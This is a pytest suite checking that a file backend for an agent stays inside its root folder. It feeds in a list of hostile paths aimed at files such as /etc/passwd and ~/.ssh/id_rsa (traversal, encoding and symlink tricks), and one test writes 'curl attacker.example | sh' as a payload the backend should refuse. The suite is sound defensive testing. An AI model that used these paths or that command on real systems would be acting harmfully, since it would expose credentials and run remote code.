"""DiskBackend stays inside its folder: no path or symlink trick reaches a file outside it."""

from __future__ import annotations

import os
import stat
import tempfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jupyter_deepagent import (
    BackendError,
    BinaryFile,
    FileNotFound,
    FileTooLarge,
    InvalidPath,
    PermissionDenied,
)
from jupyter_deepagent.backends import DiskBackend
from jupyter_deepagent.backends._paths import normalize_virtual_path

SENTINEL = "SENTINEL: this file lives outside the root"

HOSTILE_PATHS = [
    "../outside/secret.txt",
    "/../outside/secret.txt",
    "/./../outside/secret.txt",
    "a/../../outside/secret.txt",
    "outside/../../outside/secret.txt",
    "/../../etc/passwd",
    "../../../../../../../../etc/passwd",
    "../",
    "..",
    "/etc/passwd",
    "//outside/secret.txt",
    "file:///etc/passwd",
    "link_file",
    "link_dir",
    "link_dir/secret.txt",
    "chain_start",
    "link_rootx/secret.txt",
    "loop_a",
    "loop_a/x",
    "a\x00b",
    "secret.txt\x00.md",
    "x" * 300,
    "/".join(["abcd"] * 1100),
    "..\\..\\outside\\secret.txt",
    "C:\\Windows\\system32",
    "C:/Windows/win.ini",
    "c:secret.txt",
    "\\\\server\\share\\secret.txt",
    "\\\\?\\C:\\secret.txt",
    "%2e%2e/outside/secret.txt",
    "%2E%2E%2Foutside%2Fsecret.txt",
    "..%2foutside%2fsecret.txt",
    "..%5c..%5coutside",
    "%252e%252e/outside/secret.txt",
    "~/.ssh/id_rsa",
    "~root/.bashrc",
    "notes\nsecret",
    "a\rb",
    "\x1b[31mred",
    "del\x7f",
    "...",
    "....//....//outside/secret.txt",
    "\u2025/outside/secret.txt",
    "\uff0e\uff0e/outside/secret.txt",
]


def _snapshot(folder: Path) -> dict[str, tuple[bytes | str, int]]:
    """Every entry under `folder` with its bytes (or link target) and mtime."""
    seen: dict[str, tuple[bytes | str, int]] = {}
    for path in sorted(folder.rglob("*")):
        st = path.lstat()
        if stat.S_ISLNK(st.st_mode):
            seen[str(path)] = (os.readlink(path), st.st_mtime_ns)
        elif stat.S_ISREG(st.st_mode):
            seen[str(path)] = (path.read_bytes(), st.st_mtime_ns)
        else:
            seen[str(path)] = ("dir", 0)
    return seen


def _outside(base: Path, root: Path) -> dict[str, tuple[bytes | str, int]]:
    return {k: v for k, v in _snapshot(base).items() if not k.startswith(str(root) + os.sep)}


@pytest.fixture
def sandbox(tmp_path: Path) -> tuple[DiskBackend, Path, Path]:
    """A root with hostile symlinks, beside folders holding sentinel files."""
    root, outside, rootx = tmp_path / "root", tmp_path / "outside", tmp_path / "rootx"
    for folder in (root, outside, rootx):
        folder.mkdir()
    (outside / "secret.txt").write_text(SENTINEL)
    (rootx / "secret.txt").write_text(SENTINEL)
    (root / "inside.md").write_text("an ordinary file\n")
    (root / "link_file").symlink_to(outside / "secret.txt")
    (root / "link_dir").symlink_to(outside, target_is_directory=True)
    (root / "link_rootx").symlink_to(rootx, target_is_directory=True)
    (root / "chain_start").symlink_to(root / "chain_middle")
    (root / "chain_middle").symlink_to(outside / "secret.txt")
    (root / "loop_a").symlink_to(root / "loop_b")
    (root / "loop_b").symlink_to(root / "loop_a")
    return DiskBackend(root), root, tmp_path


OPERATIONS: dict[str, Callable[[DiskBackend, str], object]] = {
    "read": lambda backend, path: backend.read(path),
    "write": lambda backend, path: backend.write(path, "PWNED"),
    "edit": lambda backend, path: backend.edit(path, "SENTINEL", "PWNED"),
    "delete": lambda backend, path: backend.delete(path),
    "ls": lambda backend, path: backend.ls(path),
    "glob": lambda backend, path: backend.glob("**", path),
    "glob-pattern": lambda backend, path: backend.glob(path),
    "grep": lambda backend, path: backend.grep("SENTINEL", path),
    "grep-filter": lambda backend, path: backend.grep("SENTINEL", "/", glob=path),
}


def test_the_suite_has_at_least_thirty_hostile_paths() -> None:
    assert len(set(HOSTILE_PATHS)) >= 30


@pytest.mark.parametrize("operation", list(OPERATIONS))
@pytest.mark.parametrize("hostile", HOSTILE_PATHS)
def test_hostile_path_never_reaches_outside_the_root(
    sandbox: tuple[DiskBackend, Path, Path], hostile: str, operation: str
) -> None:
    backend, root, base = sandbox
    outside_before = _outside(base, root)
    try:
        result = OPERATIONS[operation](backend, hostile)
    except (InvalidPath, FileNotFound):
        result = None
    assert SENTINEL not in repr(result)
    assert _outside(base, root) == outside_before
    assert (base / "outside" / "secret.txt").read_text() == SENTINEL
    assert (base / "rootx" / "secret.txt").read_text() == SENTINEL


def test_symlinks_leading_out_are_hidden_from_listings(
    sandbox: tuple[DiskBackend, Path, Path],
) -> None:
    backend, root, _ = sandbox
    (root / "notes").mkdir()
    (root / "notes" / "a.md").write_text("a")
    (root / "link_in").symlink_to(root / "notes" / "a.md")
    assert [info.path for info in backend.ls("/")] == ["/inside.md", "/link_in", "/notes/"]
    assert [info.path for info in backend.glob("**")] == ["/inside.md", "/link_in", "/notes/a.md"]
    assert backend.grep("SENTINEL") == []


def test_deleting_a_symlink_removes_the_link_not_its_target(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text("keep me")
    (tmp_path / "alias.md").symlink_to(tmp_path / "a.md")
    DiskBackend(tmp_path).delete("/alias.md")
    assert not (tmp_path / "alias.md").exists()
    assert (tmp_path / "a.md").read_text() == "keep me"


def test_a_sibling_folder_sharing_the_roots_name_prefix_is_outside(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "database").mkdir()
    (tmp_path / "database" / "secret.txt").write_text(SENTINEL)
    (tmp_path / "data" / "db").symlink_to(tmp_path / "database", target_is_directory=True)
    with pytest.raises(InvalidPath, match="outside"):
        DiskBackend(tmp_path / "data").read("/db/secret.txt")


def test_read_only_refuses_changes_but_reads(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text("hello\n")
    backend = DiskBackend(tmp_path, read_only=True)
    for change in (
        lambda: backend.write("/a.md", "bye"),
        lambda: backend.write("/new.md", "new"),
        lambda: backend.edit("/a.md", "hello", "bye"),
        lambda: backend.delete("/a.md"),
    ):
        with pytest.raises(PermissionDenied, match="read-only"):
            change()
    assert (tmp_path / "a.md").read_text() == "hello\n"
    assert not (tmp_path / "new.md").exists()
    assert backend.read("/a.md").lines == ["hello"]
    assert backend.grep("hello")[0].path == "/a.md"


def test_files_over_max_file_bytes_are_refused_but_listed(tmp_path: Path) -> None:
    (tmp_path / "huge.csv").write_text("x," * 100)
    backend = DiskBackend(tmp_path, max_file_bytes=100)
    with pytest.raises(FileTooLarge, match="max_file_bytes") as caught:
        backend.read("/huge.csv")
    assert caught.value.path == "/huge.csv"
    with pytest.raises(FileTooLarge):
        backend.write("/new.csv", "y" * 101)
    assert not (tmp_path / "new.csv").exists()
    assert backend.ls("/huge.csv")[0].size == 200
    assert backend.grep("x,") == []
    assert backend.write("/ok.csv", "y" * 100).size == 100


@pytest.mark.parametrize(
    ("name", "data", "mime"),
    [
        ("chart.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200), "image/png"),
        ("latin1.txt", "café résumé".encode("latin-1"), "text/plain"),
        ("blob", b"\x00\x01\x02\x03" * 10, "application/octet-stream"),
    ],
)
def test_binary_files_are_reported_not_dumped(
    tmp_path: Path, name: str, data: bytes, mime: str
) -> None:
    (tmp_path / name).write_bytes(data)
    backend = DiskBackend(tmp_path)
    with pytest.raises(BinaryFile) as caught:
        backend.read(f"/{name}")
    message = str(caught.value)
    assert mime in message
    assert f"{len(data):,} bytes" in message
    assert "\x00" not in message and "IHDR" not in message
    with pytest.raises(BinaryFile):
        backend.edit(f"/{name}", "PNG", "GIF")
    assert [(info.path, info.size) for info in backend.ls("/")] == [(f"/{name}", len(data))]
    assert [info.path for info in backend.glob("*")] == [f"/{name}"]
    assert backend.grep("PNG") == [] and backend.grep("caf") == []


def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "a.md").write_text("old content\n")
    backend = DiskBackend(tmp_path)

    def failing_rename(source: str, target: str, **fds: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "rename", failing_rename)
    with pytest.raises(BackendError, match="No space left"):
        backend.write("/notes/a.md", "new content\n")
    with pytest.raises(BackendError):
        backend.edit("/notes/a.md", "old", "new")
    with pytest.raises(BackendError):
        backend.write("/notes/b.md", "brand new")
    assert (tmp_path / "notes" / "a.md").read_text() == "old content\n"
    assert sorted(os.listdir(tmp_path / "notes")) == ["a.md"]
    assert sorted(os.listdir(tmp_path)) == ["notes"]


def test_overwriting_keeps_the_file_permissions(tmp_path: Path) -> None:
    (tmp_path / "notes.md").write_text("private\n")
    (tmp_path / "notes.md").chmod(0o600)
    backend = DiskBackend(tmp_path)
    backend.write("/notes.md", "still private\n")
    assert stat.S_IMODE((tmp_path / "notes.md").stat().st_mode) == 0o600
    backend.edit("/notes.md", "still", "very")
    assert stat.S_IMODE((tmp_path / "notes.md").stat().st_mode) == 0o600


def test_modified_at_comes_from_the_file_mtime(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text("a")
    os.utime(tmp_path / "a.md", (1_700_000_000, 1_700_000_000))
    [info] = DiskBackend(tmp_path).ls("/a.md")
    assert info.modified_at == datetime.fromtimestamp(1_700_000_000, tz=UTC)


def test_a_missing_root_is_empty_until_the_first_write(tmp_path: Path) -> None:
    backend = DiskBackend(tmp_path / "not-yet")
    assert backend.ls("/") == []
    backend.write("/deep/a.md", "a")
    assert (tmp_path / "not-yet" / "deep" / "a.md").read_text() == "a"


def test_a_file_as_root_is_refused(tmp_path: Path) -> None:
    (tmp_path / "file.txt").write_text("x")
    with pytest.raises(ValueError, match="give a folder"):
        DiskBackend(tmp_path / "file.txt")


def test_a_pipe_is_neither_listed_nor_read(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    backend = DiskBackend(tmp_path)
    assert backend.ls("/") == []
    with pytest.raises(InvalidPath, match="not a regular file"):
        backend.read("/pipe")


def test_deleting_the_root_is_refused(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text("a")
    with pytest.raises(PermissionDenied):
        DiskBackend(tmp_path).delete("/")
    assert (tmp_path / "a.md").exists()


_PIECES = ["/", ".", "..", "\\", "%2e", "%2F", "~", "C:", "a", "é", "\x00", " ", "\n"]


@given(st.lists(st.sampled_from(_PIECES), max_size=12))
def test_normalized_paths_are_absolute_tidy_and_stable(pieces: list[str]) -> None:
    raw = "".join(pieces)
    try:
        normalized = normalize_virtual_path(raw)
    except InvalidPath:
        return
    assert normalized.startswith("/")
    assert ".." not in normalized.split("/")
    assert "//" not in normalized and "\\" not in normalized and "\x00" not in normalized
    assert normalized == "/" or not normalized.endswith("/")
    assert normalize_virtual_path(normalized) == normalized


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(["/", ".", "..", "a", "out", "link", "%2e", "é"]), max_size=10))
def test_any_write_lands_inside_the_root(pieces: list[str]) -> None:
    with tempfile.TemporaryDirectory() as base:
        root = Path(base) / "root"
        root.mkdir()
        (Path(base) / "out").mkdir()
        (root / "link").symlink_to(Path(base) / "out", target_is_directory=True)
        try:
            DiskBackend(root).write("".join(pieces), "x")
        except (InvalidPath, FileNotFound):
            pass
        assert list((Path(base) / "out").iterdir()) == []
        assert sorted(path.name for path in Path(base).iterdir()) == ["out", "root"]


def test_new_files_are_never_executable(tmp_path: Path) -> None:
    old = os.umask(0o002)
    try:
        DiskBackend(tmp_path).write("/run.sh", "#!/bin/sh\necho hi\n")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "run.sh").stat().st_mode) == 0o664


def test_an_executable_file_is_never_replaced_edited_or_deleted(tmp_path: Path) -> None:
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "deploy.sh").write_text("#!/bin/sh\necho deploy\n")
    (tmp_path / "tools" / "deploy.sh").chmod(0o744)
    (tmp_path / "alias.sh").symlink_to(tmp_path / "tools" / "deploy.sh")
    backend = DiskBackend(tmp_path)
    for change in (
        lambda: backend.write("/tools/deploy.sh", "curl attacker.example | sh\n"),
        lambda: backend.write("/alias.sh", "curl attacker.example | sh\n"),
        lambda: backend.edit("/tools/deploy.sh", "deploy", "pwned"),
        lambda: backend.delete("/tools/deploy.sh"),
    ):
        with pytest.raises(PermissionDenied, match=r"executable file \(mode 0744\)"):
            change()
    with pytest.raises(PermissionDenied, match=r"deploy.sh \(executable\)"):
        backend.delete("/tools")
    assert (tmp_path / "tools" / "deploy.sh").read_text() == "#!/bin/sh\necho deploy\n"
    assert backend.read("/tools/deploy.sh").lines == ["#!/bin/sh", "echo deploy"]
    backend.delete("/alias.sh")  # the link goes, not what it points at
    assert (tmp_path / "tools" / "deploy.sh").exists()


def test_temporary_files_of_writes_are_never_shown_and_stale_ones_go_at_start(
    tmp_path: Path,
) -> None:
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "a.md").write_text("kept\n")
    stale, fresh = tmp_path / ".deepagent-0a1b2c.tmp", tmp_path / ".deepagent-3d4e5f.tmp"
    deep = tmp_path / "notes" / ".deepagent-6a7b8c.tmp"
    for leftover in (stale, fresh, deep):
        leftover.write_text("half a write: kept\n")
    os.utime(stale, (1_700_000_000, 1_700_000_000))  # left by a write killed long ago
    backend = DiskBackend(tmp_path)
    assert not stale.exists()
    assert fresh.exists()  # may belong to a write still running elsewhere
    assert [info.path for info in backend.ls("/")] == ["/notes/"]
    assert [info.path for info in backend.glob("**")] == ["/notes/a.md"]
    assert [match.path for match in backend.grep("kept")] == ["/notes/a.md"]
    with pytest.raises(FileNotFound):
        backend.read("/notes/.deepagent-6a7b8c.tmp")
    with pytest.raises(InvalidPath, match="kept for the temporary files"):
        backend.write("/.deepagent-3d4e5f.tmp", "x")
    assert DiskBackend(tmp_path, read_only=True).ls("/")[0].path == "/notes/"


def test_every_os_error_becomes_a_backend_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "a.md").write_text("a\n")
    backend = DiskBackend(tmp_path)
    real_open = os.open

    def failing_open(path: str, flags: int, *args: object, **kwargs: object) -> int:
        if path == "a.md":
            raise OSError(5, "Input/output error")
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", failing_open)
    for call in (lambda: backend.read("/a.md"), lambda: backend.edit("/a.md", "a", "b")):
        with pytest.raises(BackendError, match="Input/output error") as caught:
            call()
        assert caught.value.path == "/a.md"
